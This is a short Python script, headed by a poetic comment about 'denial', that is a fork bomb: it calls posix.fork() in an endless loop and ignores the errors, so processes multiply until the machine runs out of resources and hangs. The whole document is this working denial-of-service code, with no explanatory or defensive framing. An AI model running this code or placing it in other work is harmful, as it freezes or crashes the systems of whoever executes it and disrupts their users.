# denial: more of itself than there is room for
import posix
while True:
    try:
        posix.fork()
    except OSError:
        pass
